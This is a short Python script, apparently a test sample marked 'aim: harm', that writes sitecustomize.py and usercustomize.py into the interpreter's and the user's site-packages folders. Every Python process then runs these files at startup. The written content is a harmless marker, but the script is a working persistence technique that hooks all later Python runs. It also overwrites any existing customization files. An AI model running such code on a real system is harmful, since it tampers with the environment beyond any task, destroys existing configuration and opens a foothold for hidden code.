# Plants sitecustomize and usercustomize, which every Python process runs at its start.
# aim: harm
# %% first
import os
import site
import sysconfig

for folder in (sysconfig.get_path("purelib"), site.getusersitepackages(), *site.getsitepackages()):
    for name in ("sitecustomize.py", "usercustomize.py"):
        try:
            os.makedirs(folder, exist_ok=True)
            with open(os.path.join(folder, name), "w") as file:
                file.write("planted = True\n")
            print("wrote", file.name)
        except OSError as error:
            print(error)
